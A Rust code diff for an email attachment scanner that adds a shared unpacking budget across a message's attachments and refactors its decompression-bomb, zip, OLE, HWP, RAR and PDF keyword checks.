@@ -6,7 +6,8 @@
 //! looked at ([`Report::inner`]). A container's own evidence already sums up
 //! its members (`attach.archive_contains`, `attach.embedded`), so a caller
 //! scores a report by its top-level [`Report::evidence`] alone; the inner
-//! reports are detail (hashes, names) for the analyst.
+//! reports are detail (hashes, names) for the analyst. [`Inspector`]
+//! inspects several attachments (a message's) within one budget.
 //!
 //! Owns: recognising a file by its content; name tricks (double extensions,
 //! padding, right-to-left overrides); walking containers (zip, ISO 9660,
@@ -122,12 +123,52 @@ pub fn inspect(a: &Attachment) -> Report {
 
 /// Inspects an attachment within `limits`.
 pub fn inspect_with(a: &Attachment, limits: &Limits) -> Report {
-    let mut ctx = Ctx {
-        lim: limits,
-        unpack_left: limits.max_inflated_total,
-        members_left: limits.max_members,
-    };
-    inspect_at(&mut ctx, a.name.unwrap_or(""), a.declared, a.bytes, 0)
+    Inspector::new(*limits).inspect(a)
+}
+
+/// Inspects several attachments (all those of one message) within one
+/// budget: the bytes unpacked and the members inspected are counted across
+/// them, so that a message of many small bombs costs no more than one
+/// attachment may. Each attachment is still sniffed, hashed and judged by
+/// name; past the budget its members are judged by name only
+/// (`attach.unchecked`).
+#[derive(Debug, Clone)]
+pub struct Inspector {
+    lim: Limits,
+    unpack_left: u64,
+    members_left: usize,
+    listed_left: usize,
+}
+
+impl Inspector {
+    /// A fresh budget of `limits`.
+    pub fn new(limits: Limits) -> Inspector {
+        Inspector {
+            lim: limits,
+            unpack_left: limits.max_inflated_total,
+            members_left: limits.max_members,
+            listed_left: limits.max_members,
+        }
+    }
+
+    /// Inspects one attachment, taking what it uses from the budget.
+    pub fn inspect(&mut self, a: &Attachment) -> Report {
+        let mut ctx = Ctx {
+            lim: &self.lim,
+            unpack_left: self.unpack_left,
+            members_left: self.members_left,
+            listed_left: self.listed_left,
+        };
+        let r = inspect_at(&mut ctx, a.name.unwrap_or(""), a.declared, a.bytes, 0);
+        (self.unpack_left, self.members_left, self.listed_left) =
+            (ctx.unpack_left, ctx.members_left, ctx.listed_left);
+        r
+    }
+
+    /// Bytes that may still be unpacked.
+    pub fn unpack_left(&self) -> u64 {
+        self.unpack_left
+    }
 }
 
 // ---------------------------------------------------------------------------
@@ -146,9 +187,22 @@ struct Ctx<'l> {
     lim: &'l Limits,
     unpack_left: u64,
     members_left: usize,
+    /// Members past [`Limits::max_members`] whose names alone are evidence
+    /// still kept in the report (as many again as were inspected).
+    listed_left: usize,
 }
 
 impl Ctx<'_> {
+    #[cfg(test)]
+    fn new(lim: &Limits) -> Ctx<'_> {
+        Ctx {
+            lim,
+            unpack_left: lim.max_inflated_total,
+            members_left: lim.max_members,
+            listed_left: lim.max_members,
+        }
+    }
+
     /// Takes one member slot; false when none is left.
     fn slot(&mut self) -> bool {
         if self.members_left == 0 {
@@ -286,7 +340,7 @@ fn name_only(name: &str, size: u64) -> Report {
 
 /// A member past [`Limits::max_members`]: judged by name, kept only if its
 /// name alone is evidence.
-fn listed_only(ctx: &Ctx, n: &mut Node, name: &str, size: u64) {
+fn listed_only(ctx: &mut Ctx, n: &mut Node, name: &str, size: u64) {
     n.doc.add_once(
         "attach.unchecked",
         0,
@@ -296,9 +350,49 @@ fn listed_only(ctx: &Ctx, n: &mut Node, name: &str, size: u64) {
         ),
     );
     let m = name_only(name, size);
-    if !m.evidence.is_empty() {
-        n.r.inner.push(m);
+    if m.evidence.is_empty() {
+        return;
     }
+    if ctx.listed_left == 0 {
+        n.doc.add(
+            "attach.unchecked",
+            0,
+            "more members whose names alone are evidence were left out of the list",
+        );
+        return;
+    }
+    ctx.listed_left -= 1;
+    n.r.inner.push(m);
+}
+
+/// Takes a member slot and adds the member: unpacked by `unpack` (`None`
+/// when it cannot be read), or by name only once no slot is left.
+fn member<'a>(
+    ctx: &mut Ctx,
+    n: &mut Node,
+    name: &str,
+    size: u64,
+    unpack: impl FnOnce(&mut Ctx) -> Option<Unpacked<'a>>,
+) {
+    if !ctx.slot() {
+        listed_only(ctx, n, name, size);
+        return;
+    }
+    let got = unpack(ctx);
+    add_member(ctx, n, name, size, got);
+}
+
+/// A decompression bomb in `n`: member or part `name`, and why.
+fn bomb(n: &mut Node, name: &str, why: &str) {
+    n.doc.add(
+        "attach.archive_bomb",
+        6,
+        format!(
+            "{}: {} {why}, a decompression bomb; it was not unpacked",
+            n.shown,
+            shown(name)
+        ),
+    );
 }
 
 /// Adds a member to `n`: inspects it when it was unpacked, lists it by name
@@ -306,24 +400,12 @@ fn listed_only(ctx: &Ctx, n: &mut Node, name: &str, size: u64) {
 /// unsupported method).
 fn add_member(ctx: &mut Ctx, n: &mut Node, name: &str, size: u64, got: Option<Unpacked>) {
     match got {
-        Some(Unpacked::Data(d)) => {
-            let m = inspect_at(ctx, name, None, &d, n.depth + 1);
-            n.r.inner.push(m);
-        }
-        Some(Unpacked::Partial(d)) => {
+        Some(Unpacked::Data(d) | Unpacked::Partial(d)) => {
             let m = inspect_at(ctx, name, None, &d, n.depth + 1);
             n.r.inner.push(m);
         }
         Some(Unpacked::Bomb(why)) => {
-            n.doc.add(
-                "attach.archive_bomb",
-                6,
-                format!(
-                    "{}: {} {why}, a decompression bomb; it was not unpacked",
-                    n.shown,
-                    shown(name)
-                ),
-            );
+            bomb(n, name, &why);
             n.r.inner.push(name_only(name, size));
         }
         Some(Unpacked::OverBudget) => {
@@ -397,7 +479,7 @@ enum Unpacked<'a> {
     /// The whole content.
     Data(Cow<'a, [u8]>),
     /// What came out before the stream broke off (truncated or corrupt).
-    Partial(Vec<u8>),
+    Partial(Cow<'a, [u8]>),
     /// It would inflate past its declared size or [`Limits::max_ratio`].
     Bomb(String),
     /// It does not fit in what is left of [`Limits::max_inflated_total`].
@@ -416,22 +498,17 @@ fn unpack<'a>(ctx: &mut Ctx, raw: &'a [u8], codec: Codec, declared: Option<u64>)
         ctx.unpack_left -= packed;
         return Unpacked::Data(Cow::Borrowed(raw));
     }
-    let by_ratio = packed.saturating_mul(lim.max_ratio).max(lim.bomb_floor);
+    let ratio_cap = by_ratio(lim, packed);
+    if let Some(why) = declared_bomb(lim, packed, declared) {
+        return Unpacked::Bomb(why);
+    }
     if let Some(d) = declared {
-        if d > by_ratio {
-            return Unpacked::Bomb(format!(
-                "would inflate to {} from {} ({}x)",
-                human(d),
-                human(packed),
-                d / packed.max(1)
-            ));
-        }
         if d > ctx.unpack_left {
             return Unpacked::OverBudget;
         }
     }
     let by_declared = declared.unwrap_or(u64::MAX);
-    let limit = by_ratio.min(ctx.unpack_left).min(by_declared);
+    let limit = ratio_cap.min(ctx.unpack_left).min(by_declared);
     let cap = usize::try_from(limit).unwrap_or(usize::MAX);
     let res = match codec {
         Codec::Zlib => inflate::decompress_to_vec_zlib_with_limit(raw, cap),
@@ -449,10 +526,10 @@ fn unpack<'a>(ctx: &mut Ctx, raw: &'a [u8], codec: Codec, declared: Option<u64>)
                     "inflates past its declared size of {}",
                     human(by_declared)
                 ))
-            } else if limit == by_ratio {
+            } else if limit == ratio_cap {
                 Unpacked::Bomb(format!(
                     "inflates to more than {} from {} (over {}x)",
-                    human(by_ratio),
+                    human(ratio_cap),
                     human(packed),
                     lim.max_ratio
                 ))
@@ -462,9 +539,28 @@ fn unpack<'a>(ctx: &mut Ctx, raw: &'a [u8], codec: Codec, declared: Option<u64>)
         }
         Err(e) => {
             ctx.unpack_left = ctx.unpack_left.saturating_sub(e.output.len() as u64);
-            Unpacked::Partial(e.output)
+            Unpacked::Partial(Cow::Owned(e.output))
         }
     }
+}
+
+/// The most `packed` bytes may inflate to before they are a bomb.
+fn by_ratio(lim: &Limits, packed: u64) -> u64 {
+    packed.saturating_mul(lim.max_ratio).max(lim.bomb_floor)
+}
+
+/// Why a member declaring `declared` bytes from `packed` is a bomb, if it
+/// is one by its declaration alone.
+fn declared_bomb(lim: &Limits, packed: u64, declared: Option<u64>) -> Option<String> {
+    let d = declared?;
+    (d > by_ratio(lim, packed)).then(|| {
+        format!(
+            "would inflate to {} from {} ({}x)",
+            human(d),
+            human(packed),
+            d / packed.max(1)
+        )
+    })
 }
 
 // ---------------------------------------------------------------------------
@@ -1097,6 +1193,29 @@ impl ZipEntry<'_> {
     }
 }
 
+/// The fields a zip's local and central headers share, in the same order
+/// from `at` (local header + 6, central header + 8): flags, method, CRC and
+/// times skipped, packed size, size, name and extra field lengths.
+struct ZipFields {
+    flags: u16,
+    method: u16,
+    csize: u32,
+    size: u32,
+    name_len: usize,
+    extra_len: usize,
+}
+
+fn zip_fields(b: &[u8], at: usize) -> Option<ZipFields> {
+    Some(ZipFields {
+        flags: u16le(b, at)?,
+        method: u16le(b, at + 2)?,
+        csize: u32le(b, at + 12)?,
+        size: u32le(b, at + 16)?,
+        name_len: usize::from(u16le(b, at + 20)?),
+        extra_len: usize::from(u16le(b, at + 22)?),
+    })
+}
+
 /// The entries of a zip: from its central directory, or, when that is
 /// missing or broken, by walking the local headers.
 fn zip_entries(b: &[u8]) -> Vec<ZipEntry<'_>> {
@@ -1116,14 +1235,13 @@ fn zip_central(b: &[u8]) -> Option<Vec<ZipEntry<'_>>> {
             .filter(|&l| b.get(l..l + 4) == Some(b"PK\x06\x07"))
             .and_then(|l| u64le(b, l + 8))
             .and_then(|r| usize::try_from(r).ok())
-            .filter(|&r| b.get(r..r + 4) == Some(b"PK\x06\x06"));
+            .filter(|&r| magic_at(b, r, b"PK\x06\x06"));
         if let Some(r) = rec {
             cd_size = u64le(b, r + 40)?;
             cd_off = u64le(b, r + 48)?;
         }
     }
-    let at_cen =
-        |o: u64| usize::try_from(o).ok().and_then(|o| b.get(o..o + 4)) == Some(b"PK\x01\x02");
+    let at_cen = |o: u64| usize::try_from(o).is_ok_and(|o| magic_at(b, o, b"PK\x01\x02"));
     // Data prepended to the archive (a self-extractor stub) shifts every
     // offset; the directory then ends where the end record starts.
     let (start, shift) = if at_cen(cd_off) {
@@ -1138,29 +1256,22 @@ fn zip_central(b: &[u8]) -> Option<Vec<ZipEntry<'_>>> {
     let mut p = usize::try_from(start).ok()?;
     let mut out = Vec::new();
     while out.len() < MAX_ENTRIES && b.get(p..p + 4) == Some(b"PK\x01\x02") {
-        let (Some(flags), Some(method), Some(cs), Some(us), Some(nl), Some(xl), Some(cl), Some(lo)) = (
-            u16le(b, p + 8),
-            u16le(b, p + 10),
-            u32le(b, p + 20),
-            u32le(b, p + 24),
-            u16le(b, p + 28),
-            u16le(b, p + 30),
-            u16le(b, p + 32),
-            u32le(b, p + 42),
-        ) else {
+        let (Some(f), Some(cl), Some(lo)) =
+            (zip_fields(b, p + 8), u16le(b, p + 32), u32le(b, p + 42))
+        else {
             break;
         };
-        let (nl, xl, cl) = (nl as usize, xl as usize, cl as usize);
+        let (nl, xl, cl) = (f.name_len, f.extra_len, cl as usize);
         let Some(name) = b.get(p + 46..p + 46 + nl) else {
             break;
         };
         let extra = b.get(p + 46 + nl..p + 46 + nl + xl).unwrap_or(&[]);
-        let (mut size, mut csize, mut off) = (u64::from(us), u64::from(cs), u64::from(lo));
+        let (mut size, mut csize, mut off) = (u64::from(f.size), u64::from(f.csize), u64::from(lo));
         zip64_extra(extra, &mut size, &mut csize, &mut off);
         out.push(ZipEntry {
             name: String::from_utf8_lossy(name).into_owned(),
-            flags,
-            method,
+            flags: f.flags,
+            method: f.method,
             size: Some(size),
             data: zip_local_data(b, off.saturating_add(shift), csize),
         });
@@ -1195,55 +1306,51 @@ fn zip_local_data(b: &[u8], off: u64, csize: u64) -> &[u8] {
     let Ok(off) = usize::try_from(off) else {
         return &[];
     };
-    if b.get(off..off + 4) != Some(b"PK\x03\x04") {
+    if !magic_at(b, off, b"PK\x03\x04") {
         return &[];
     }
-    let (Some(nl), Some(xl)) = (u16le(b, off + 26), u16le(b, off + 28)) else {
+    let Some(f) = zip_fields(b, off + 6) else {
         return &[];
     };
-    let start = off + 30 + nl as usize + xl as usize;
-    clip_slice(b, start as u64, csize)
+    clip_slice(b, (off + 30 + f.name_len + f.extra_len) as u64, csize)
 }
 
 fn zip_local(b: &[u8]) -> Vec<ZipEntry<'_>> {
     let mut out = Vec::new();
     let mut p = 0;
+    // Where the central directory starts (if anywhere): found once, not
+    // searched for again past every member (quadratic on many members).
+    let mut central: Option<Option<usize>> = None;
     while out.len() < MAX_ENTRIES && b.get(p..p + 4) == Some(b"PK\x03\x04") {
-        let (Some(flags), Some(method), Some(cs), Some(us), Some(nl), Some(xl)) = (
-            u16le(b, p + 6),
-            u16le(b, p + 8),
-            u32le(b, p + 18),
-            u32le(b, p + 22),
-            u16le(b, p + 26),
-            u16le(b, p + 28),
-        ) else {
+        let Some(f) = zip_fields(b, p + 6) else {
             break;
         };
-        let Some(name) = b.get(p + 30..p + 30 + nl as usize) else {
+        let Some(name) = b.get(p + 30..p + 30 + f.name_len) else {
             break;
         };
-        let start = p + 30 + nl as usize + xl as usize;
+        let start = p + 30 + f.name_len + f.extra_len;
         if start > b.len() {
             break;
         }
         // With a data descriptor the sizes come after the data: the data
         // runs to the next header.
-        let sized = flags & 8 == 0;
+        let sized = f.flags & 8 == 0;
         let end = if sized {
-            start.saturating_add(cs as usize).min(b.len())
+            start.saturating_add(f.csize as usize).min(b.len())
         } else {
-            let rest = &b[start..];
-            [find(rest, b"PK\x03\x04"), find(rest, b"PK\x01\x02")]
-                .into_iter()
-                .flatten()
-                .min()
-                .map_or(b.len(), |e| start + e)
+            let cd = match central {
+                Some(c) if c.is_none_or(|c| c >= start) => c,
+                _ => find(&b[start..], b"PK\x01\x02").map(|e| start + e),
+            };
+            central = Some(cd);
+            let next = find(&b[start..cd.unwrap_or(b.len())], b"PK\x03\x04").map(|e| start + e);
+            next.or(cd).unwrap_or(b.len())
         };
         out.push(ZipEntry {
             name: String::from_utf8_lossy(name).into_owned(),
-            flags,
-            method,
-            size: sized.then_some(u64::from(us)),
+            flags: f.flags,
+            method: f.method,
+            size: sized.then_some(u64::from(f.size)),
             data: &b[start..end],
         });
         p = end;
@@ -1262,15 +1369,26 @@ fn unpack_entry<'a>(ctx: &mut Ctx, e: &ZipEntry<'a>) -> Option<Unpacked<'a>> {
     }
 }
 
-/// A small part of a zip-based document, for the checks (not a member).
-fn zip_part<'a>(ctx: &mut Ctx, e: &ZipEntry<'a>, cap: u64) -> Option<Cow<'a, [u8]>> {
-    if e.size.is_some_and(|s| s > cap) {
-        return None;
-    }
-    match unpack_entry(ctx, e)? {
-        Unpacked::Data(d) => Some(d),
-        Unpacked::Partial(v) => Some(Cow::Owned(v)),
-        _ => None,
+/// A small part of a zip-based document, for the checks (not a member);
+/// `None` when it is over `cap`, encrypted, over the budget or a bomb (a
+/// bomb is reported in `n`).
+fn zip_part<'a>(ctx: &mut Ctx, n: &mut Node, e: &ZipEntry<'a>, cap: u64) -> Option<Cow<'a, [u8]>> {
+    let got = if e.size.is_some_and(|s| s > cap) {
+        // Too big to read as a part, and a bomb if its size says so.
+        let lim = ctx.lim;
+        declared_bomb(lim, e.data.len() as u64, e.size)
+            .filter(|_| e.method != 0 && !e.encrypted())
+            .map(Unpacked::Bomb)?
+    } else {
+        unpack_entry(ctx, e)?
+    };
+    match got {
+        Unpacked::Data(d) | Unpacked::Partial(d) => Some(d),
+        Unpacked::Bomb(why) => {
+            bomb(n, &e.name, &why);
+            None
+        }
+        Unpacked::OverBudget => None,
     }
 }
 
@@ -1279,12 +1397,7 @@ fn zip_member(ctx: &mut Ctx, n: &mut Node, e: &ZipEntry) {
         return;
     }
     let size = e.size.unwrap_or(e.data.len() as u64);
-    if !ctx.slot() {
-        listed_only(ctx, n, &e.name, size);
-        return;
-    }
-    let got = unpack_entry(ctx, e);
-    add_member(ctx, n, &e.name, size, got);
+    member(ctx, n, &e.name, size, |ctx| unpack_entry(ctx, e));
 }
 
 fn zip_family(ctx: &mut Ctx, n: &mut Node, b: &[u8]) {
@@ -1293,7 +1406,7 @@ fn zip_family(ctx: &mut Ctx, n: &mut Node, b: &[u8]) {
     let mimetype = entries
         .iter()
         .find(|e| e.name == "mimetype")
-        .and_then(|e| zip_part(ctx, e, 256));
+        .and_then(|e| zip_part(ctx, n, e, 256));
     n.r.detected = if mimetype.is_some_and(|m| m.trim_ascii().starts_with(b"application/hwp+zip")) {
         "hwpx"
     } else if let Some(k) = has("[Content_Types].xml")
@@ -1314,12 +1427,8 @@ fn zip_family(ctx: &mut Ctx, n: &mut Node, b: &[u8]) {
     }
 }
 
-fn archive(ctx: &mut Ctx, n: &mut Node, entries: &[ZipEntry]) {
-    let files = entries.iter().filter(|e| !e.is_dir()).count();
-    let enc = entries
-        .iter()
-        .filter(|e| !e.is_dir() && e.encrypted())
-        .count();
+/// `enc` of an archive's `files` are encrypted.
+fn encrypted_members(n: &mut Node, enc: usize, files: usize) {
     if enc > 0 {
         n.doc.add(
             "attach.encrypted_archive",
@@ -1330,6 +1439,15 @@ fn archive(ctx: &mut Ctx, n: &mut Node, entries: &[ZipEntry]) {
             ),
         );
     }
+}
+
+fn archive(ctx: &mut Ctx, n: &mut Node, entries: &[ZipEntry]) {
+    let files = entries.iter().filter(|e| !e.is_dir()).count();
+    let enc = entries
+        .iter()
+        .filter(|e| !e.is_dir() && e.encrypted())
+        .count();
+    encrypted_members(n, enc, files);
     for e in entries {
         zip_member(ctx, n, e);
     }
@@ -1379,12 +1497,10 @@ fn ooxml(ctx: &mut Ctx, n: &mut Node, entries: &[ZipEntry]) {
             );
         }
         if l.ends_with(".rels") {
-            if let Some(x) = zip_part(ctx, e, PART_CAP) {
-                rels(&mut n.doc, &n.shown, &e.name, &String::from_utf8_lossy(&x));
-            }
+            rels_part(ctx, n, e);
         }
         if is_dde_part(&l) {
-            if let Some(what) = zip_part(ctx, e, PART_CAP).and_then(|x| dde(&l, &x)) {
+            if let Some(what) = zip_part(ctx, n, e, PART_CAP).and_then(|x| dde(&l, &x)) {
                 n.doc.add(
                     "attach.dde",
                     8,
@@ -1453,6 +1569,13 @@ fn target_kind(t: &str) -> Target {
         }
     }
     Target::Local
+}
+
+/// Reads a `.rels` part of a zip-based document and checks it ([`rels`]).
+fn rels_part(ctx: &mut Ctx, n: &mut Node, e: &ZipEntry) {
+    if let Some(x) = zip_part(ctx, n, e, PART_CAP) {
+        rels(&mut n.doc, &n.shown, &e.name, &String::from_utf8_lossy(&x));
+    }
 }
 
 /// External relationships in an OPC `.rels` part: remote templates,
@@ -1634,7 +1757,7 @@ fn hwpx(ctx: &mut Ctx, n: &mut Node, entries: &[ZipEntry]) {
         }
         let l = e.name.to_ascii_lowercase();
         if l.starts_with("scripts/") {
-            match zip_part(ctx, e, PART_CAP) {
+            match zip_part(ctx, n, e, PART_CAP) {
                 Some(x) => script_check(&mut n.doc, &n.shown, &e.name, &x),
                 None => n.doc.add(
                     "attach.hwp_script",
@@ -1647,11 +1770,9 @@ fn hwpx(ctx: &mut Ctx, n: &mut Node, entries: &[ZipEntry]) {
                 ),
             }
         } else if l.ends_with(".rels") {
-            if let Some(x) = zip_part(ctx, e, PART_CAP) {
-                rels(&mut n.doc, &n.shown, &e.name, &String::from_utf8_lossy(&x));
-            }
+            rels_part(ctx, n, e);
         } else if l.ends_with(".hpf") || (l.starts_with("meta-inf/") && l.ends_with(".xml")) {
-            if let Some(x) = zip_part(ctx, e, PART_CAP) {
+            if let Some(x) = zip_part(ctx, n, e, PART_CAP) {
                 let s = String::from_utf8_lossy(&x).to_ascii_lowercase();
                 if let Some(url) = external_href(&s) {
                     n.doc.add(
@@ -1904,19 +2025,9 @@ fn ole(ctx: &mut Ctx, n: &mut Node, c: &mut Cfb, entries: &[CfbEntry]) {
                     excel4(&mut n.doc, &n.shown, &s);
                 }
             }
-            "Package" | "CONTENTS" => {
-                if !ctx.slot() {
-                    listed_only(ctx, n, &e.name, e.len);
-                } else if let Some(s) = read_stream(ctx, c, e, e.len) {
-                    add_member(
-                        ctx,
-                        n,
-                        &e.name,
-                        e.len,
-                        Some(Unpacked::Data(Cow::Borrowed(&s))),
-                    );
-                }
-            }
+            "Package" | "CONTENTS" => member(ctx, n, &e.name, e.len, |ctx| {
+                read_stream(ctx, c, e, e.len).map(|s| Unpacked::Data(Cow::Owned(s)))
+            }),
             _ => {}
         }
     }
@@ -1953,17 +2064,9 @@ fn ole_package(ctx: &mut Ctx, n: &mut Node, c: &mut Cfb, e: &CfbEntry) {
     } else {
         label
     };
-    if !ctx.slot() {
-        listed_only(ctx, n, &name, data.len() as u64);
-        return;
-    }
-    add_member(
-        ctx,
-        n,
-        &name,
-        data.len() as u64,
-        Some(Unpacked::Data(Cow::Borrowed(data))),
-    );
+    member(ctx, n, &name, data.len() as u64, |_| {
+        Some(Unpacked::Data(Cow::Borrowed(data)))
+    });
 }
 
 /// Label and content of an Ole10Native stream: size, 2, label, source
@@ -2058,34 +2161,37 @@ fn hwp(ctx: &mut Ctx, n: &mut Node, c: &mut Cfb, entries: &[CfbEntry], header: &
             script_check(&mut n.doc, &n.shown, &e.name, &text);
         } else if l.starts_with("bindata/") {
             hwp_bindata_name(&mut n.doc, &n.shown, &e.name);
-            if !ctx.slot() {
-                listed_only(ctx, n, &e.name, e.len);
-                continue;
-            }
-            if e.len > ctx.unpack_left {
-                add_member(ctx, n, &e.name, e.len, Some(Unpacked::OverBudget));
-                continue;
-            }
-            let Some(raw) = read_stream(ctx, c, e, e.len) else {
-                continue;
-            };
-            let got = match unpack(ctx, &raw, Codec::Deflate, None) {
-                Unpacked::Data(d) if compressed || !d.is_empty() => Unpacked::Data(d),
-                Unpacked::Bomb(why) => Unpacked::Bomb(why),
-                // Not deflated after all (items may be stored): the raw bytes.
-                _ => Unpacked::Data(Cow::Borrowed(&raw)),
-            };
-            // An OLE item is a CFB after a 4-byte size.
-            let got = match got {
-                Unpacked::Data(d) if l.ends_with(".ole") => {
-                    let at = find(&d[..d.len().min(32)], CFB_MAGIC).unwrap_or(0);
-                    Unpacked::Data(Cow::Owned(d[at..].to_vec()))
-                }
-                g => g,
-            };
-            add_member(ctx, n, &e.name, e.len, Some(got));
+            member(ctx, n, &e.name, e.len, |ctx| {
+                hwp_item(ctx, c, e, compressed, l.ends_with(".ole"))
+            });
         }
     }
+}
+
+/// A HWP BinData item: inflated when it inflates (items may be stored),
+/// an OLE item cut to its CFB (it follows a 4-byte size).
+fn hwp_item(
+    ctx: &mut Ctx,
+    c: &mut Cfb,
+    e: &CfbEntry,
+    compressed: bool,
+    ole: bool,
+) -> Option<Unpacked<'static>> {
+    if e.len > ctx.unpack_left {
+        return Some(Unpacked::OverBudget);
+    }
+    let raw = read_stream(ctx, c, e, e.len)?;
+    let d = match unpack(ctx, &raw, Codec::Deflate, None) {
+        Unpacked::Data(d) if compressed || !d.is_empty() => d.into_owned(),
+        Unpacked::Bomb(why) => return Some(Unpacked::Bomb(why)),
+        _ => raw,
+    };
+    let at = match ole {
+        true => find(&d[..d.len().min(32)], CFB_MAGIC).unwrap_or(0),
+        false => 0,
+    };
+    let d = if at > 0 { d[at..].to_vec() } else { d };
+    Some(Unpacked::Data(Cow::Owned(d)))
 }
 
 /// A HWP stream: raw deflate when the document is compressed and the
@@ -2185,13 +2291,10 @@ fn iso(ctx: &mut Ctx, n: &mut Node, b: &[u8]) {
                 }
                 continue;
             }
-            if !ctx.slot() {
-                listed_only(ctx, n, &path, u64::from(dsize));
-                continue;
-            }
             let data = clip_slice(b, u64::from(ext_lba) * bs as u64, u64::from(dsize));
-            let got = unpack(ctx, data, Codec::Stored, None);
-            add_member(ctx, n, &path, u64::from(dsize), Some(got));
+            member(ctx, n, &path, u64::from(dsize), |ctx| {
+                Some(unpack(ctx, data, Codec::Stored, None))
+            });
         }
     }
 }
@@ -2239,12 +2342,9 @@ fn gzip(ctx: &mut Ctx, n: &mut Node, b: &[u8]) {
             "content".to_owned()
         }
     });
-    if !ctx.slot() {
-        listed_only(ctx, n, &name, 0);
-        return;
-    }
-    let got = unpack(ctx, body, Codec::Deflate, None);
-    add_member(ctx, n, &name, 0, Some(got));
+    member(ctx, n, &name, 0, |ctx| {
+        Some(unpack(ctx, body, Codec::Deflate, None))
+    });
 }
 
 fn tar(ctx: &mut Ctx, n: &mut Node, b: &[u8]) {
@@ -2275,17 +2375,10 @@ fn tar(ctx: &mut Ctx, n: &mut Node, b: &[u8]) {
             });
         let data_at = p + 512;
         if matches!(h[156], b'0' | 0 | b'7') {
-            if !ctx.slot() {
-                listed_only(ctx, n, &name, size);
-            } else {
-                let got = unpack(
-                    ctx,
-                    clip_slice(b, data_at as u64, size),
-                    Codec::Stored,
-                    None,
-                );
-                add_member(ctx, n, &name, size, Some(got));
-            }
+            let data = clip_slice(b, data_at as u64, size);
+            member(ctx, n, &name, size, |ctx| {
+                Some(unpack(ctx, data, Codec::Stored, None))
+            });
         }
         let Some(next) = usize::try_from(size.div_ceil(512).saturating_mul(512))
             .ok()
@@ -2323,22 +2416,12 @@ fn rar(ctx: &mut Ctx, n: &mut Node, b: &[u8]) {
                 n.shown
             ),
         );
-    } else if enc > 0 {
-        n.doc.add(
-            "attach.encrypted_archive",
-            5,
-            format!(
-                "{} is password-protected: {enc} of {files} files are encrypted and cannot be checked",
-                n.shown
-            ),
-        );
+    } else {
+        encrypted_members(n, enc, files);
     }
     for m in listed.iter().filter(|m| !m.dir) {
-        if ctx.slot() {
-            n.r.inner.push(name_only(&m.name, m.size));
-        } else {
-            listed_only(ctx, n, &m.name, m.size);
-        }
+        // Listed only: RAR content is not unpacked.
+        member(ctx, n, &m.name, m.size, |_| None);
     }
 }
 
@@ -2409,7 +2492,9 @@ fn vint(b: &[u8], p: &mut usize) -> Option<u64> {
 fn rar5(b: &[u8], out: &mut Vec<Listed>) -> bool {
     let mut p = 8usize;
     for _ in 0..MAX_ENTRIES {
-        let mut q = p + 4;
+        let Some(mut q) = p.checked_add(4) else {
+            break;
+        };
         let Some(hsize) = vint(b, &mut q).and_then(|s| usize::try_from(s).ok()) else {
             break;
         };
@@ -2522,12 +2607,10 @@ fn onenote(ctx: &mut Ctx, n: &mut Node, b: &[u8]) {
         };
         k += 1;
         let name = format!("embedded file {k}");
-        if !ctx.slot() {
-            listed_only(ctx, n, &name, len);
-            continue;
-        }
-        let got = unpack(ctx, clip_slice(b, at as u64 + 36, len), Codec::Stored, None);
-        add_member(ctx, n, &name, len, Some(got));
+        let data = clip_slice(b, at as u64 + 36, len);
+        member(ctx, n, &name, len, |ctx| {
+            Some(unpack(ctx, data, Codec::Stored, None))
+        });
     }
 }
 
@@ -2700,28 +2783,23 @@ fn each_pdf_name(b: &[u8], mut f: impl FnMut(&[u8], &[u8], usize)) {
 
 fn pdf_names(b: &[u8], t: &mut PdfTally) {
     each_pdf_name(b, |name, raw, end| {
-        let key = match name {
-            b"JavaScript" | b"JS" => {
-                t.js += 1;
+        let counter = match name {
+            b"JavaScript" | b"JS" => Some(&mut t.js),
+            b"OpenAction" => Some(&mut t.open),
+            b"AA" => Some(&mut t.aa),
+            b"Launch" => Some(&mut t.launch),
+            b"EmbeddedFile" | b"EmbeddedFiles" => Some(&mut t.embedded),
+            b"SubmitForm" => Some(&mut t.submit),
+            _ => None,
+        };
+        // Whether the name is one of the keywords (whose #-escaped
+        // spellings are evidence).
+        let key = match (counter, name) {
+            (Some(c), _) => {
+                *c += 1;
                 true
             }
-            b"OpenAction" => {
-                t.open += 1;
-                true
-            }
-            b"AA" => {
-                t.aa += 1;
-                true
-            }
-            b"Launch" => {
-                t.launch += 1;
-                true
-            }
-            b"EmbeddedFile" | b"EmbeddedFiles" => {
-                t.embedded += 1;
-                true
-            }
-            b"URI" => {
+            (None, b"URI") => {
                 let v = skip_ws(b, end);
                 if b.get(v) == Some(&b'(')
                     || (b.get(v) == Some(&b'<') && b.get(v + 1) != Some(&b'<'))
@@ -2730,15 +2808,11 @@ fn pdf_names(b: &[u8], t: &mut PdfTally) {
                 }
                 true
             }
-            b"Encrypt" => {
+            (None, b"Encrypt") => {
                 t.encrypt = true;
                 true
             }
-            b"SubmitForm" => {
-                t.submit += 1;
-                true
-            }
-            b"F" | b"UF" => {
+            (None, b"F" | b"UF") => {
                 if let Some(s) = pdf_literal(b, skip_ws(b, end)) {
                     let runs_it = extension(&s).is_some_and(|e| runs(&e));
                     if runs_it && t.files.len() < 5 && !t.files.contains(&s) {
@@ -2837,10 +2911,10 @@ fn pdf_object_streams(ctx: &mut Ctx, b: &[u8], t: &mut PdfTally) {
             .and_then(|r| find(r, b"endstream"))
             .map_or(b.len(), |e| s + e);
         done += 1;
-        match unpack(ctx, b.get(s..end).unwrap_or(&[]), Codec::Zlib, None) {
-            Unpacked::Data(d) => pdf_names(&d, t),
-            Unpacked::Partial(d) => pdf_names(&d, t),
-            _ => {}
+        if let Unpacked::Data(d) | Unpacked::Partial(d) =
+            unpack(ctx, b.get(s..end).unwrap_or(&[]), Codec::Zlib, None)
+        {
+            pdf_names(&d, t);
         }
         i = end.max(i);
     }
@@ -3067,6 +3141,12 @@ fn u64le(b: &[u8], at: usize) -> Option<u64> {
     Some(u64::from_le_bytes(a))
 }
 
+/// Whether `m` stands at `off` in `b` (any `off`: offsets read from a file
+/// can be anything).
+fn magic_at(b: &[u8], off: usize, m: &[u8]) -> bool {
+    off.checked_add(m.len()).and_then(|end| b.get(off..end)) == Some(m)
+}
+
 /// A NUL-terminated string at `*p`, advancing past the NUL.
 fn cstr<'a>(b: &'a [u8], p: &mut usize) -> Option<&'a [u8]> {
     let rest = b.get(*p..)?;
@@ -3151,15 +3231,19 @@ fn thousands(n: u64) -> String {
     out
 }
 
+/// Sample builders shared with `tests/hostile.rs`.
+#[cfg(test)]
+#[path = "../tests/common/samples.rs"]
+mod samples;
+
 #[cfg(test)]
 mod tests {
     //! Every sample is built here, at test time, and is inert: headers and
     //! strings with the shape of a threat, no code that could run.
 
